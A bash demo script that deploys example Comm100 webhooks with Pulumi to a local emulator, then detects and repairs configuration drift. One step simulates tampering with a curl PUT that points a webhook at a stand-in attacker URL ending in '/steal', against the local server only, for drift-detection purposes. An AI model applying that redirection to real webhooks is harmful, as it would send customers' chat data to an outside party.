#!/usr/bin/env bash
# The demo: deploys examples/basic with the real Pulumi engine to a local Comm100-compatible
# server, shows drift made behind Pulumi's back, and repairs it. Safe to re-run; state and the
# server's data live in .demo/ (git-ignored).
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")/.."

port="${DEMO_PORT:-8100}"
token="demo-token"
demo="$PWD/.demo"
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "1. The Pulumi CLI"
bin="$(bash scripts/install-pulumi-cli.sh | tail -n 1)"
export PATH="$bin:$PATH"
export PULUMI_BACKEND_URL="file://$demo/state" PULUMI_HOME="$demo/pulumi-home"
export PULUMI_CONFIG_PASSPHRASE="demo-passphrase" PULUMI_SKIP_UPDATE_CHECK=true
export PULUMI_DISABLE_AUTOMATIC_PLUGIN_ACQUISITION=true
mkdir -p "$demo/state"
pulumi version

step "2. Build the package"
npm run --silent build

step "3. Start the Comm100-compatible server on port $port (data in .demo/emulator-data.json)"
node_modules/.bin/tsx scripts/emulator.ts --port "$port" --token "$token" \
  --data "$demo/emulator-data.json" > "$demo/emulator.log" 2>&1 &
emulator_pid=$!
trap 'kill "$emulator_pid" 2>/dev/null || true' EXIT
api="http://127.0.0.1:$port/v4"
control="http://127.0.0.1:$port/__control"
for _ in $(seq 1 50); do
  curl -fsS -o /dev/null "$control/accounts/10000/webhooks" 2>/dev/null && break
  kill -0 "$emulator_pid" 2>/dev/null || { cat "$demo/emulator.log"; echo "the server did not start" >&2; exit 1; }
  sleep 0.2
done
head -n 3 "$demo/emulator.log"

step "4. pulumi up: examples/basic (an endpoint whose URL is unknown until deployed + 3 webhooks)"
pulumi stack select demo 2>/dev/null || pulumi stack init demo
pulumi config set comm100:baseUrl "$api"
pulumi config set --secret comm100:accessToken "$token"
pulumi up --yes --skip-preview

step "5. Stack outputs"
pulumi stack output
chat_ended="$(pulumi stack output webhookIds --json | node -e 'process.stdout.write(JSON.parse(require("fs").readFileSync(0, "utf8")).chatEnded)')"

step "6. Someone edits webhook $chat_ended behind Pulumi's back"
curl -fsS -X PUT -H 'content-type: application/json' \
  -d '{"targetUrl":"https://attacker.example.net/steal"}' "$control/accounts/10000/webhooks/$chat_ended"
echo

step "7. pulumi preview --refresh: the drift shows"
pulumi preview --refresh --diff

step "8. pulumi up --refresh: the drift is repaired"
pulumi up --refresh --yes --skip-preview
curl -fsS "$control/accounts/10000/webhooks"
echo

step "9. A receiver subscribed with examples/receiver gets a simulated chat"
receiver_port="${DEMO_RECEIVER_PORT:-8200}"
node_modules/.bin/tsx examples/receiver/main.ts --port "$receiver_port" > "$demo/receiver.log" 2>&1 &
receiver_pid=$!
trap 'kill "$emulator_pid" "$receiver_pid" 2>/dev/null || true' EXIT
for _ in $(seq 1 50); do
  grep -q "Receiving Comm100 webhooks" "$demo/receiver.log" && break
  kill -0 "$receiver_pid" 2>/dev/null || { cat "$demo/receiver.log"; echo "the receiver did not start" >&2; exit 1; }
  sleep 0.2
done
(
  cd examples/receiver
  pulumi stack select demo 2>/dev/null || pulumi stack init demo
  pulumi config set comm100:baseUrl "$api"
  pulumi config set --secret comm100:accessToken "$token"
  pulumi config set receiverUrl "http://127.0.0.1:$receiver_port/comm100"
  pulumi up --yes --skip-preview
)
npm run --silent trigger -- chat --server "http://127.0.0.1:$port" --target-prefix "http://127.0.0.1:$receiver_port/"
echo "What the receiver got:"
grep '^\[receiver\]' "$demo/receiver.log"

step "Done. To look around (same environment):"
cat <<HELP
  export PATH="$bin:\$PATH" PULUMI_BACKEND_URL="$PULUMI_BACKEND_URL" PULUMI_HOME="$PULUMI_HOME" PULUMI_CONFIG_PASSPHRASE="$PULUMI_CONFIG_PASSPHRASE"
  npm run emulator -- --port $port --token $token --data .demo/emulator-data.json &   # the server, with the demo's webhooks
  pulumi stack output; pulumi preview --refresh     # inspect
  pulumi destroy --yes                              # remove the demo's webhooks
  (cd examples/receiver && pulumi destroy --yes)    # and the receiver's subscription
HELP
